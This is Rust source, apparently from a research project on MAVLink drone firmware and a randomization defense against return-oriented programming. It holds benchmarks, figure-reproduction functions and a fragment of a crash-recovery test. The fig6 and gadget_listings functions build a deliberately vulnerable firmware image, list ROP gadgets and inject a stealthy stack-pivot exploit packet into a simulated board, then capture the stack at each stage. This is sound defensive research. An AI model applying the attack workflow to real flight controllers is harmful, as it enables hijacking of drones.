            .iter()
            .map(|r| {
                format!(
                    "    {{\"store_fault_rate\": {}, \"mttr_ms\": {:.1}, \
                     \"checkpoints_skipped\": {}, \"slices_to_complete\": {}}}",
                    r.store_fault_rate, r.mttr_ms, r.checkpoints_skipped, r.slices_to_complete
                )
            })
            .collect::<Vec<_>>()
            .join(",\n");
        let quarantine = self
            .quarantine
            .iter()
            .map(|r| {
                let overhead = if base_secs > 0.0 {
                    r.secs / base_secs
                } else {
                    1.0
                };
                format!(
                    "    {{\"panic_rate\": {}, \"quarantined\": {}, \"secs\": {:.3}, \
                     \"overhead\": {overhead:.3}}}",
                    r.panic_rate, r.quarantined, r.secs
                )
            })
            .collect::<Vec<_>>()
            .join(",\n");
        format!(
            "{{\n  \"bench\": \"campaignd/robust_service\",\n  \"boards\": {},\n  \
             \"cycles_per_board\": {},\n  \"worst_mttr_ms\": {:.1},\n  \
             \"quarantine_overhead\": {:.3},\n  \"recovery\": [\n{}\n  ],\n  \
             \"quarantine\": [\n{}\n  ]\n}}\n",
            self.boards,
            self.cycles_per_board,
            self.worst_mttr_ms(),
            self.quarantine_overhead(),
            recovery,
            quarantine
        )
    }
}

/// Measure the campaign service's supervision machinery end to end.
///
/// Two sweeps, both fully deterministic (seeded fault draws, seeded
/// sabotage fates):
///
/// - **Recovery**: run half a campaign, drop the session cold (the
///   in-process stand-in for SIGKILL — the on-disk state is identical),
///   then time store reopen + session rebuild + a one-job resume slice.
///   That is the service's MTTR: how long a supervisor waits between
///   "process gone" and "campaign making checkpointed progress again".
///   Swept across injected disk-fault rates, driving each campaign to
///   completion to count abandoned checkpoint flushes along the way.
/// - **Quarantine**: sweep the seeded sabotage panic rate through an
///   otherwise identical campaign and time run + merge. Poison jobs cost
///   their retries (bounded attempts with millisecond backoff) and a
///   quarantine-ledger rebuild at merge; the overhead column is that cost
///   as a ratio over the clean baseline.
///
/// `quick` shrinks the campaigns and drops a sweep point for CI smoke.
pub fn robust_service(quick: bool) -> RobustServiceBench {
    use mavr_campaignd::{merge_store, CampaignSession, CampaignSpec, CampaignStore, FaultFs};
    use mavr_fleet::JobChaos;
    use std::sync::atomic::AtomicBool;
    use std::sync::Arc;

    let boards = if quick { 16 } else { 64 };
    let (warmup, flight) = (40_000u64, 60_000u64);
    let shard_jobs = 4u64;
    let root = std::env::temp_dir()
        .join("mavr-robust-bench")
        .join(std::process::id().to_string());
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).expect("bench scratch dir");

    let spec_named = |name: &str| {
        let mut spec = CampaignSpec::named(name);
        spec.boards = boards;
        spec.scenarios = vec![mavr_fleet::Scenario::Benign];
        spec.warmup_cycles = warmup;
        spec.attack_cycles = flight;
        spec.shard_jobs = shard_jobs;
        spec
    };
    let session = |store: CampaignStore| {
        CampaignSession::new(
            store,
            telemetry::Telemetry::off(),
            Arc::new(AtomicBool::new(false)),
        )
        .expect("session")
    };

    let fault_rates: &[f64] = if quick {
        &[0.0, 0.5]
    } else {
        &[0.0, 0.25, 0.5]
    };
    let recovery = fault_rates
        .iter()
        .map(|&rate| {
            let name = format!("mttr-{}", (rate * 100.0) as u32);
            let faults = if rate == 0.0 {
                FaultFs::none()
            } else {
                FaultFs::seeded(0x0DD5_EED0 + (rate * 100.0) as u64, rate)
            };
            let store = CampaignStore::create(&root, spec_named(&name))
                .expect("create campaign")
                .with_faults(faults.clone());
            // The doomed first process: half the campaign, then gone. A
            // dropped session and a SIGKILLed one leave the same disk.
            let doomed = session(store);
            doomed.run(Some(boards / 2), None).expect("partial run");
            drop(doomed);

            let t0 = std::time::Instant::now();
            let store = CampaignStore::open(&root.join(&name))
                .expect("reopen campaign")
                .with_faults(faults);
            let resumed = session(store);
            resumed.run(Some(1), None).expect("one-job resume slice");
            let mttr_ms = t0.elapsed().as_secs_f64() * 1e3;

            // Drive to completion under the same fault rate: skipped
            // checkpoints re-run their slices, so this always converges.
            let mut slices = 1u64;
            loop {
                let out = resumed.run(None, None).expect("resume slice");
                slices += 1;
                if out.complete {
                    break;
                }
                assert!(slices < 10_000, "campaign failed to converge under faults");
            }
            RobustRecoveryRow {
                store_fault_rate: rate,
                mttr_ms,
                checkpoints_skipped: resumed.checkpoints_skipped(),
                slices_to_complete: slices,
            }
        })
        .collect();

    // Poison jobs panic on purpose (caught by the supervisor); silence
    // the default hook so the sweep times supervision, not stderr.
    let prior_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(|_| {}));
    let panic_rates: &[f64] = if quick {
        &[0.0, 0.1]
    } else {
        &[0.0, 0.05, 0.1]
    };
    let quarantine = panic_rates
        .iter()
        .map(|&rate| {
            let name = format!("poison-{}", (rate * 1000.0) as u32);
            let mut spec = spec_named(&name);
            spec.sabotage = JobChaos {
                panic_rate: rate,
                hang_rate: 0.0,
                flaky_rate: 0.0,
                seed: 0x0BAD_5EED,
            };
            let sess = session(CampaignStore::create(&root, spec).expect("create campaign"));
            let t0 = std::time::Instant::now();
            let out = sess.run(None, None).expect("poison campaign");
            assert!(out.complete, "a poisoned campaign still completes");
            merge_store(&sess.store).expect("merge campaign");
            let secs = t0.elapsed().as_secs_f64();
            let quarantined = std::fs::read_to_string(sess.store.quarantine_path())
                .map_or(0, |text| text.lines().count() as u64);
            RobustQuarantineRow {
                panic_rate: rate,
                quarantined,
                secs,
            }
        })
        .collect();
    std::panic::set_hook(prior_hook);

    let _ = std::fs::remove_dir_all(&root);
    RobustServiceBench {
        recovery,
        quarantine,
        boards,
        cycles_per_board: warmup + flight,
    }
}

/// One fault-rate point of the chaos-resilience sweep. All counts are
/// summed over the cell's boards.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ChaosBenchRow {
    /// Fault-injection rate of the cell.
    pub fault: f64,
    /// Boards flown at this rate.
    pub boards: usize,
    /// Reflash retries the masters burned (container re-reads, full-stream
    /// retries, page repairs).
    pub reflash_retries: u64,
    /// Boots that fell back to the last-known-good image.
    pub degraded_boots: u64,
    /// Boards that exhausted every retry and the degraded fallback.
    pub boards_bricked: usize,
    /// Boards that detected and recovered from the attack at least once.
    pub boards_recovered: usize,
    /// Mean cycles from injection to detection, over recovered boards.
    pub mttr_cycles: Option<f64>,
}

/// Measured recovery-pipeline resilience under a fault-rate sweep. See
/// [`chaos_resilience`].
#[derive(Debug, Clone, PartialEq)]
pub struct ChaosResilience {
    /// One row per fault rate, clean baseline first.
    pub rows: Vec<ChaosBenchRow>,
    /// Campaign seed the sweep ran under.
    pub seed: u64,
    /// Boards per fault-rate cell.
    pub boards_per_cell: usize,
}

impl ChaosResilience {
    /// `MTTR(rate) / MTTR(0)` for the highest fault rate where both are
    /// defined — how much the injected faults stretch detection-to-reflash
    /// recovery.
    pub fn mttr_inflation(&self) -> Option<f64> {
        let base = self.rows.first()?.mttr_cycles?;
        self.rows
            .iter()
            .rev()
            .find_map(|r| r.mttr_cycles)
            .map(|m| m / base)
    }

    /// The `BENCH_chaos.json` payload (hand-rolled; the workspace has no
    /// JSON dependency).
    pub fn to_json(&self) -> String {
        let base_mttr = self.rows.first().and_then(|r| r.mttr_cycles);
        let rows = self
            .rows
            .iter()
            .map(|r| {
                let mttr = r
                    .mttr_cycles
                    .map_or("null".to_string(), |m| format!("{m:.1}"));
                let inflation = match (base_mttr, r.mttr_cycles) {
                    (Some(b), Some(m)) => format!("{:.3}", m / b),
                    _ => "null".to_string(),
                };
                format!(
                    "    {{\"fault\": {}, \"boards\": {}, \"reflash_retries\": {}, \
                     \"retry_rate\": {:.4}, \"degraded_boots\": {}, \
                     \"boards_bricked\": {}, \"brick_rate\": {:.4}, \
                     \"boards_recovered\": {}, \"mttr_cycles\": {}, \
                     \"mttr_inflation\": {}}}",
                    r.fault,
                    r.boards,
                    r.reflash_retries,
                    r.reflash_retries as f64 / r.boards.max(1) as f64,
                    r.degraded_boots,
                    r.boards_bricked,
                    r.boards_bricked as f64 / r.boards.max(1) as f64,
                    r.boards_recovered,
                    mttr,
                    inflation,
                )
            })
            .collect::<Vec<_>>()
            .join(",\n");
        format!(
            "{{\n  \"bench\": \"chaos_resilience/v1-crash\",\n  \"seed\": {},\n  \"boards_per_cell\": {},\n  \"rows\": [\n{}\n  ]\n}}\n",
            self.seed, self.boards_per_cell, rows
        )
    }
}

/// Sweep fault-injection rates through a V1 (loud crash) fleet campaign
/// and measure what the hardened recovery pipeline does with them: reflash
/// retries, degraded boots, bricks, and MTTR inflation versus the clean
/// baseline. Whether a crashed ROP chain actually silences the heartbeat
/// is layout-dependent (wild execution can keep interrupts alive), so the
/// campaign seed is chosen for a fleet where most baseline boards detect —
/// that keeps the MTTR column defined, and the engine seed-matches boards
/// across the fault axis, so the comparison is the *same* fleet under
/// different chaos. Fully deterministic (it is a fleet campaign); `quick`
/// shrinks the fleet for CI smoke runs.
pub fn chaos_resilience(quick: bool) -> ChaosResilience {
    use mavr_fleet::{run_campaign, CampaignConfig, Scenario};
    let boards = if quick { 2 } else { 8 };
    let cfg = CampaignConfig {
        seed: 6,
        boards,
        scenarios: vec![Scenario::V1Crash],
        loss_levels: vec![0.0],
        fault_levels: vec![0.0, 0.00005, 0.0001, 0.0002, 0.0005],
        attack_cycles: if quick { 3_000_000 } else { 6_000_000 },
        ..CampaignConfig::default()
    };
    let report = run_campaign(&cfg);
    let rows = report
        .cells
        .iter()
        .map(|c| ChaosBenchRow {
            fault: c.fault,
            boards: c.boards,
            reflash_retries: c.reflash_retries,
            degraded_boots: c.degraded_boots,
            boards_bricked: c.boards_bricked,
            boards_recovered: c.boards_recovered,
            mttr_cycles: c.mean_time_to_recovery(),
        })
        .collect();
    ChaosResilience {
        rows,
        seed: cfg.seed,
        boards_per_cell: boards,
    }
}

/// Measured cost of persisting machine state as a full snapshot vs a
/// dirty-page delta against a recent keyframe. See [`snapshot_cost`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SnapshotCost {
    /// Median size of a full snapshot blob, bytes.
    pub full_bytes: usize,
    /// Median size of a delta blob taken `delta_gap_cycles` after its
    /// keyframe, bytes.
    pub delta_bytes: usize,
    /// Median wall-clock cost of a full snapshot (state capture + encode),
    /// microseconds.
    pub full_encode_us: f64,
    /// Median wall-clock cost of a delta encode, microseconds.
    pub delta_encode_us: f64,
    /// Cycles run between keyframe and delta.
    pub delta_gap_cycles: u64,
    /// Samples the medians were taken over.
    pub samples: usize,
}

impl SnapshotCost {
    /// `full_bytes / delta_bytes` — the size factor deltas buy.
    pub fn bytes_ratio(&self) -> f64 {
        self.full_bytes as f64 / self.delta_bytes as f64
    }

    /// `full_encode_us / delta_encode_us` — the time factor deltas buy.
    pub fn time_ratio(&self) -> f64 {
        self.full_encode_us / self.delta_encode_us
    }

    /// The `BENCH_snapshot.json` payload (hand-rolled; the workspace has no
    /// JSON dependency).
    pub fn to_json(&self) -> String {
        format!(
            "{{\n  \"bench\": \"snapshot_cost/tiny_firmware\",\n  \"samples\": {},\n  \"delta_gap_cycles\": {},\n  \"full_bytes\": {},\n  \"delta_bytes\": {},\n  \"full_encode_us\": {:.1},\n  \"delta_encode_us\": {:.1},\n  \"bytes_ratio\": {:.1},\n  \"time_ratio\": {:.1}\n}}\n",
            self.samples,
            self.delta_gap_cycles,
            self.full_bytes,
            self.delta_bytes,
            self.full_encode_us,
            self.delta_encode_us,
            self.bytes_ratio(),
            self.time_ratio()
        )
    }
}

/// Measure full-vs-delta snapshot cost on a flying tiny firmware: per
/// sample, take a keyframe, fly `10_000` more cycles, then time (a) a full
/// snapshot — state capture plus wire encode — and (b) a dirty-page delta
/// encode against the keyframe. Every delta is verified to reconstruct the
/// full state bit-for-bit before its timing counts. `quick` = fewer
/// samples, for CI smoke.
pub fn snapshot_cost(quick: bool) -> SnapshotCost {
    use mavr_snapshot::{apply_machine_delta, encode_machine, encode_machine_delta};
    const GAP: u64 = 10_000;
    let samples = if quick { 5 } else { 25 };
    let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).expect("build");
    let mut m = avr_sim::Machine::new_atmega2560();
    m.load_flash(0, &fw.image.bytes);
    m.run(300_000);
    assert!(m.fault().is_none(), "bench firmware crashed");

    let mut full_sizes = Vec::with_capacity(samples);
    let mut delta_sizes = Vec::with_capacity(samples);
    let mut full_times = Vec::with_capacity(samples);
    let mut delta_times = Vec::with_capacity(samples);
    for _ in 0..samples {
        let keyframe = m.capture_state();
        m.clear_dirty();
        m.run(GAP);
        let t0 = std::time::Instant::now();
        let full = encode_machine(&m.capture_state());
        full_times.push(t0.elapsed().as_secs_f64() * 1e6);
        let t0 = std::time::Instant::now();
        let delta = encode_machine_delta(&m, keyframe.cycles);
        delta_times.push(t0.elapsed().as_secs_f64() * 1e6);
        assert_eq!(
            apply_machine_delta(&keyframe, &delta).expect("delta applies"),
            m.capture_state(),
            "delta must reconstruct the full state"
        );
        full_sizes.push(full.len());
        delta_sizes.push(delta.len());
    }
    let median_usize = |v: &mut Vec<usize>| {
        v.sort_unstable();
        v[v.len() / 2]
    };
    let median_f64 = |v: &mut Vec<f64>| {
        v.sort_by(f64::total_cmp);
        v[v.len() / 2]
    };
    SnapshotCost {
        full_bytes: median_usize(&mut full_sizes),
        delta_bytes: median_usize(&mut delta_sizes),
        full_encode_us: median_f64(&mut full_times),
        delta_encode_us: median_f64(&mut delta_times),
        delta_gap_cycles: GAP,
        samples,
    }
}

/// Measured cost of the observability plane: simulator overhead of an
/// attached (null) recorder, metrics record/merge throughput and
/// exposition cost. See [`telemetry_overhead`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct TelemetryBench {
    /// Simulated cycles/sec with telemetry off — the baseline.
    pub off_cycles_per_sec: f64,
    /// Simulated cycles/sec with a `NullRecorder` attached (events
    /// counted, then discarded).
    pub null_recorder_cycles_per_sec: f64,
    /// Raw `QuantileSketch::record` calls per second.
    pub sketch_records_per_sec: f64,
    /// `MetricsRegistry::observe_histogram` calls per second — the
    /// labeled-lookup path the fleet fold takes per packet count.
    pub histogram_records_per_sec: f64,
    /// Registry shard merges per second on the reference registry.
    pub merges_per_sec: f64,
    /// Prometheus text expositions per second of the reference registry.
    pub prometheus_per_sec: f64,
    /// JSONL expositions per second of the reference registry.
    pub jsonl_per_sec: f64,
    /// Series in the reference registry the merge/exposition rows use.
    pub series: usize,
    /// Samples per measurement the medians were taken over.
    pub samples: usize,
}

impl TelemetryBench {
    /// Percent slowdown of the simulator when a null recorder is
    /// attached (the "instrumentation on, sink off" configuration).
    pub fn null_recorder_overhead_pct(&self) -> f64 {
        100.0 * (self.off_cycles_per_sec / self.null_recorder_cycles_per_sec - 1.0)
    }

    /// The `BENCH_telemetry.json` payload (hand-rolled; the workspace has
    /// no JSON dependency).
    pub fn to_json(&self) -> String {
        format!(
            "{{\n  \"bench\": \"telemetry_overhead/tiny_firmware\",\n  \"samples\": {},\n  \"series\": {},\n  \"off_cycles_per_sec\": {:.0},\n  \"null_recorder_cycles_per_sec\": {:.0},\n  \"null_recorder_overhead_pct\": {:.2},\n  \"sketch_records_per_sec\": {:.0},\n  \"histogram_records_per_sec\": {:.0},\n  \"merges_per_sec\": {:.0},\n  \"prometheus_per_sec\": {:.0},\n  \"jsonl_per_sec\": {:.0}\n}}\n",
            self.samples,
            self.series,
            self.off_cycles_per_sec,
            self.null_recorder_cycles_per_sec,
            self.null_recorder_overhead_pct(),
            self.sketch_records_per_sec,
            self.histogram_records_per_sec,
            self.merges_per_sec,
            self.prometheus_per_sec,
            self.jsonl_per_sec,
        )
    }
}

/// A reference registry shaped like one worker shard of a real campaign:
/// `cells` label combinations, each with the fold's counters, a latency
/// sketch and a packet histogram.
fn reference_registry(cells: usize, seed: u64) -> telemetry::metrics::MetricsRegistry {
    let mut reg = telemetry::metrics::MetricsRegistry::new();
    let mut x = seed;
    let mut next = || {
        // splitmix64, the workspace's standard seed deriver.
        x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = x;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    };
    for cell in 0..cells {
        let loss = format!("{:.4}", cell as f64 * 0.01);
        let labels = [("scenario", "bench"), ("loss", loss.as_str())];
        reg.add_counter("campaign_boards_total", &labels, 8);
        reg.add_counter("recoveries_total", &labels, next() % 8);
        reg.add_counter("sim_cycles_total", &labels, next() % 1_000_000);
        for _ in 0..64 {
            reg.observe_sketch(
                "campaign_detection_latency_cycles",
                &labels,
                next() % 2_000_000,
            );
            reg.observe_histogram("campaign_packets_per_board", &labels, next() % 4096);
        }
    }
    reg
}

/// Measure the observability plane: (a) simulator throughput with
/// telemetry off vs a `NullRecorder` attached, on the flying tiny
/// firmware; (b) raw sketch-record and labeled histogram-record rates;
/// (c) shard-merge and exposition rates on a campaign-shaped reference
/// registry. Medians over a few samples each; `quick` shortens everything
/// for CI smoke.
pub fn telemetry_overhead(quick: bool) -> TelemetryBench {
    use std::hint::black_box;
    use telemetry::metrics::{MetricsRegistry, QuantileSketch};
    use telemetry::{NullRecorder, Telemetry};

    let samples = if quick { 3 } else { 9 };
    let sim_cycles: u64 = if quick { 300_000 } else { 1_000_000 };
    let ops: u64 = if quick { 200_000 } else { 2_000_000 };
    let cells = 12;

    let median = |v: &mut Vec<f64>| {
        v.sort_by(f64::total_cmp);
        v[v.len() / 2]
    };
    // Median seconds of `f`, which returns a value kept live via black_box.
    let time_median = |f: &mut dyn FnMut() -> u64| -> f64 {
        let mut times: Vec<f64> = (0..samples)
            .map(|_| {
                let t0 = std::time::Instant::now();
                black_box(f());
                t0.elapsed().as_secs_f64()
            })
            .collect();
        median(&mut times)
    };

    let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).expect("build");
    let sim_secs = |telemetry_on: bool| -> f64 {
        time_median(&mut || {
            let mut m = avr_sim::Machine::new_atmega2560();
            if telemetry_on {
                m.telemetry = Telemetry::new(NullRecorder::default());
            }
            m.load_flash(0, &fw.image.bytes);
            m.run(sim_cycles);
            assert!(m.fault().is_none(), "bench firmware crashed");
            m.cycles()
        })
    };
    let off_secs = sim_secs(false);
    let null_secs = sim_secs(true);

    let sketch_secs = time_median(&mut || {
        let mut s = QuantileSketch::new();
        for v in 0..ops {
            // Cheap LCG so the timed loop is the record call, not the RNG.
            s.record(v.wrapping_mul(6364136223846793005).wrapping_add(1) % 4_000_000);
        }
        s.count()
    });
    let histogram_secs = time_median(&mut || {
        let mut reg = MetricsRegistry::new();
        let labels = [("scenario", "bench"), ("loss", "0.0000")];
        for v in 0..ops {
            reg.observe_histogram("campaign_packets_per_board", &labels, v % 4096);
        }
        reg.len() as u64
    });

    let shard = reference_registry(cells, 0x2015);
    let series = shard.len();
    let merge_rounds: u64 = if quick { 200 } else { 2_000 };
    let merge_secs = time_median(&mut || {
        let mut acc = MetricsRegistry::new();
        for _ in 0..merge_rounds {
            acc.merge(black_box(&shard));
        }
        acc.len() as u64
    });
    let expo_rounds: u64 = if quick { 200 } else { 2_000 };
    let prom_secs = time_median(&mut || {
        let mut bytes = 0u64;
        for _ in 0..expo_rounds {
            bytes += black_box(shard.to_prometheus()).len() as u64;
        }
        bytes
    });
    let jsonl_secs = time_median(&mut || {
        let mut bytes = 0u64;
        for _ in 0..expo_rounds {
            bytes += black_box(shard.to_jsonl()).len() as u64;
        }
        bytes
    });

    TelemetryBench {
        off_cycles_per_sec: sim_cycles as f64 / off_secs,
        null_recorder_cycles_per_sec: sim_cycles as f64 / null_secs,
        sketch_records_per_sec: ops as f64 / sketch_secs,
        histogram_records_per_sec: ops as f64 / histogram_secs,
        merges_per_sec: merge_rounds as f64 / merge_secs,
        prometheus_per_sec: expo_rounds as f64 / prom_secs,
        jsonl_per_sec: expo_rounds as f64 / jsonl_secs,
        series,
        samples,
    }
}

/// **Fig. 2** — encode a minimum packet and describe its structure.
pub fn fig2() -> String {
    let mut gcs = GroundStation::new();
    let wire = gcs.heartbeat();
    let mut out = String::from("MAVLink packet structure (Fig. 2), minimum 17-byte HEARTBEAT:\n");
    let fields = [
        ("magic", 1usize),
        ("payload length", 1),
        ("sequence", 1),
        ("sender system id", 1),
        ("sender component id", 1),
        ("message id", 1),
        ("payload", wire.len() - 8),
        ("checksum", 2),
    ];
    let mut off = 0;
    for (name, len) in fields {
        let bytes: Vec<String> = wire[off..off + len]
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        out.push_str(&format!("  {name:<22} {}\n", bytes.join(" ")));
        off += len;
    }
    out
}

/// **Figs. 4–5** — disassemble the classified gadgets from a target image,
/// in the figures' listing format.
pub fn gadget_listings(image: &FirmwareImage) -> String {
    let map = scanner::classify(image).expect("gadgets present");
    let stk = avr_core::disasm::disassemble(&image.bytes, map.stk_move, 14);
    let wm = avr_core::disasm::disassemble(&image.bytes, map.write_mem_std, 40);
    let mut out = String::from("Gadget 1: stk_move (Fig. 4)\n");
    for line in stk.iter().take(7) {
        out.push_str(&format!("  {line}\n"));
    }
    out.push_str("Gadget 2: write_mem_gadget (Fig. 5)\n");
    for line in wm.iter().take(20) {
        out.push_str(&format!("  {line}\n"));
    }
    out
}

/// One stack snapshot for Fig. 6.
#[derive(Debug, Clone)]
pub struct StackSnapshot {
    /// Stage label from the figure.
    pub label: &'static str,
    /// SP at snapshot time.
    pub sp: u16,
    /// Bytes from `base` upward.
    pub base: u16,
    /// The raw bytes.
    pub bytes: Vec<u8>,
}

impl StackSnapshot {
    /// Hexdump in the figure's style.
    pub fn dump(&self) -> String {
        use std::fmt::Write;
        let mut out = format!("({}) SP={:#06x}\n", self.label, self.sp);
        for (i, chunk) in self.bytes.chunks(8).enumerate() {
            write!(out, "  {:#06x}:", self.base as usize + i * 8).unwrap();
            for b in chunk {
                write!(out, " 0x{b:02X}").unwrap();
            }
            out.push('\n');
        }
        out
    }
}

/// **Fig. 6** — run the V2 stealthy attack with instrumentation and capture
/// the stack at each stage of the figure.
pub fn fig6(spec: &AppSpec) -> Vec<StackSnapshot> {
    let fw = build(spec, &BuildOptions::vulnerable_mavr()).expect("build");
    let ctx = AttackContext::discover(&fw.image).expect("discover");
    let payload = ctx
        .v2_payload(&[(l::GYRO + 3, [0x11, 0x22, 0x33])])
        .expect("payload");

    let mut m = avr_sim::Machine::new_atmega2560();
    m.load_flash(0, &fw.image.bytes);
    m.run(200_000);

    let frame_base = ctx.y_frame;
    let window = 48usize;
    // Show the top of the frame: locals tail, saved regs, return address.
    let base = frame_base + synth_firmware::layout::HANDLER_FRAME - 24;
    let snap = |m: &avr_sim::Machine, label| StackSnapshot {
        label,
        sp: m.sp(),
        base,
        bytes: m.peek_range(base, window),
    };

    let mut snaps = Vec::new();
    let handler = fw.image.symbol("handle_param_set").unwrap().addr;
    m.add_breakpoint(handler);
    let mut gcs = GroundStation::new();
    m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
    m.run(4_000_000);
    snaps.push(snap(&m, "i: clean stack at handler entry"));
    m.remove_breakpoint(handler);

    // Ride the attack: breakpoints on the two gadgets.
    m.add_breakpoint(ctx.gadgets.stk_move);
    m.run(4_000_000);
    snaps.push(snap(
        &m,
        "ii: dirty stack after payload injection (at stk_move)",
    ));
    m.remove_breakpoint(ctx.gadgets.stk_move);
    m.add_breakpoint(ctx.gadgets.write_mem_pop);
    m.run(100_000);
    snaps.push(snap(&m, "iii: SP moved into the buffer (gadget 1 done)"));
    m.remove_breakpoint(ctx.gadgets.write_mem_pop);
    m.add_breakpoint(ctx.gadgets.write_mem_std);
    m.run(100_000);
    snaps.push(snap(&m, "iv: payload write about to execute"));
    m.run(100_000);
    snaps.push(snap(&m, "v: stack before frame repair (gadget 2)"));
    m.remove_breakpoint(ctx.gadgets.write_mem_std);
    m.add_breakpoint(ctx.gadgets.stk_move);
    m.run(100_000);
    snaps.push(snap(&m, "vi: moving SP back to the original frame"));
    m.remove_breakpoint(ctx.gadgets.stk_move);
    // Return point: the original return address inside mavlink_rx_poll.
    let ret = (u32::from(ctx.orig_ret[0]) << 16)
        | (u32::from(ctx.orig_ret[1]) << 8)
        | u32::from(ctx.orig_ret[2]);
    m.add_breakpoint(ret * 2);
    m.run(100_000);
    snaps.push(snap(&m, "vii: repaired stack, execution continues"));
    snaps
}

/// Measured cost of closing the physical loop: the same provisioned
/// SynthQuadFlight board flown bare (block-fused fast path, ADC floating)
/// versus inside the [`mavr_world::FlightHarness`] (sensors sampled into
/// the ADC and the rigid body stepped every 16 000 cycles). See
/// [`world_throughput`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct WorldThroughput {
    /// Cycles/sec of the bare board (physics off).
    pub bare_cycles_per_sec: f64,
    /// Cycles/sec of the coupled board (physics on).
    pub coupled_cycles_per_sec: f64,
    /// World steps/sec of the coupled simulation (`coupled / 16000`).
    pub coupled_steps_per_sec: f64,
    /// Samples per leg the minima were taken over.
    pub samples: usize,
}

impl WorldThroughput {
    /// What the physics arena costs on the fused fast path, in percent of
    /// bare throughput. The ISSUE budget is <15%.
    pub fn overhead_pct(&self) -> f64 {
        (self.bare_cycles_per_sec / self.coupled_cycles_per_sec - 1.0) * 100.0
    }

    /// The `BENCH_world.json` payload (hand-rolled; the workspace has no
    /// JSON dependency).
    pub fn to_json(&self) -> String {
        format!(
            "{{\n  \"bench\": \"closed_loop/synth_quad_flight\",\n  \"unit\": \"cycles_per_sec\",\n  \"samples\": {},\n  \"bare_fused\": {:.0},\n  \"coupled_fused\": {:.0},\n  \"world_steps_per_sec\": {:.0},\n  \"physics_overhead_pct\": {:.2}\n}}\n",
            self.samples,
            self.bare_cycles_per_sec,
            self.coupled_cycles_per_sec,
            self.coupled_steps_per_sec,
            self.overhead_pct(),
        )
    }
}

/// Measure the closed-loop physics overhead (`quick` = fewer samples and
/// steps, for CI smoke).
///
/// Both legs fly the identical provisioned board on the block-fused fast
/// path; only the coupling differs. Legs are interleaved round-robin and
/// each reports its fastest sample (noise only ever adds time), so the
/// overhead ratio is robust against load drift on a shared machine.
pub fn world_throughput(quick: bool) -> WorldThroughput {
    use mavr_world::{FlightHarness, Scenario, World, CYCLES_PER_STEP};

    let steps: u64 = if quick { 125 } else { 500 };
    let samples = if quick { 3 } else { 9 };
    let cycles = steps * CYCLES_PER_STEP;
    let fw = build(&apps::synth_quad_flight(), &BuildOptions::safe_mavr()).unwrap();
    let board = || MavrBoard::provision(&fw.image, 0xf17e, RandomizationPolicy::default()).unwrap();

    let time_bare = || {
        let mut b = board();
        let t0 = std::time::Instant::now();
        b.run(cycles).unwrap();
        t0.elapsed().as_secs_f64()
    };
    let time_coupled = || {
        let mut h = FlightHarness::new(board(), World::new(Scenario::Hover, 0x57e9));
        let t0 = std::time::Instant::now();
        h.run_steps(steps).unwrap();
        let dt = t0.elapsed().as_secs_f64();
        assert!(!h.world.on_ground(), "bench flight must stay airborne");
        dt
    };

    let mut best = [f64::INFINITY; 2];
    for _ in 0..samples {
        best[0] = best[0].min(time_bare());
        best[1] = best[1].min(time_coupled());
    }
    WorldThroughput {
        bare_cycles_per_sec: cycles as f64 / best[0],
        coupled_cycles_per_sec: cycles as f64 / best[1],
        coupled_steps_per_sec: steps as f64 / best[1],
        samples,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fig2_shows_min_packet() {
        let s = fig2();
        assert!(s.contains("magic"));
        assert!(s.contains("fe"));
        assert!(s.contains("checksum"));
    }

    #[test]
    fn effectiveness_small_scale() {
        let e = effectiveness(&apps::tiny_test_app(), 3);
        assert!(e.gadgets_unique > 50);
        assert_eq!(e.stock_successes, 1, "attack works on unprotected image");
        assert_eq!(
            e.randomized_successes, 0,
            "attack never works when randomized"
        );
    }

    #[test]
    fn bruteforce_matches_theory() {
        let (mf, ef, mr, er) = bruteforce(4, 4_000);
        assert!((mf - ef).abs() / ef < 0.1);
        assert!((mr - er).abs() / er < 0.1);
    }

    #[test]
    fn fig6_progression_shows_repair() {
        let snaps = fig6(&apps::tiny_test_app());
        assert_eq!(snaps.len(), 7);
        // Window base is y_frame + FRAME - 24, so the 3-byte return address
        // (at y_frame + FRAME + 4) sits at offsets 28..31.
        let ret = 28..31;
        let i = &snaps[0].bytes[ret.clone()];
        let vii = &snaps[6].bytes[ret.clone()];
        assert_eq!(i, vii, "repaired return address must match the original");
        // Stage ii: the return address is smashed (points at stk_move).
        assert_ne!(&snaps[1].bytes[ret.clone()], i);
        // The saved registers (offsets 25..28) are repaired too: stages v
        // and vii hold the values the prologue pushed (stage ii holds the
        // attacker's pivot bytes instead).
        assert_ne!(&snaps[1].bytes[25..28], &snaps[6].bytes[25..28]);
        for s in &snaps {
            assert!(!s.dump().is_empty());
        }
    }
}
