//! Kill-anywhere recovery proof: SIGKILL the one-shot campaign service
//! at seeded random instants — mid-slice, mid-checkpoint, mid-finalize,
//! wherever the timer lands — then resume. The completed campaign must
//! merge to a report **byte-identical** to one uninterrupted, unsharded
//! engine run, with byte-identical metrics and no quarantine residue.
//!
//! This drives the real binary (`CARGO_BIN_EXE_mavr-cli`), so the whole
//! stack is under the knife: CLI arg parsing, the session runner, the
//! atomic store discipline, torn-tail repair, and the merge.

#![cfg(unix)]

use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

const BIN: &str = env!("CARGO_BIN_EXE_mavr-cli");

const SPEC: &str = r#"{
    "name": "kill-proof",
    "boards": 2,
    "scenarios": ["benign", "v2"],
    "loss_levels": [0.01],
    "fault_levels": [0.0],
    "warmup_cycles": 100000,
    "attack_cycles": 1200000,
    "shard_jobs": 1
}"#;

fn tmp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir()
        .join("mavr-cli-tests")
        .join(format!("{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
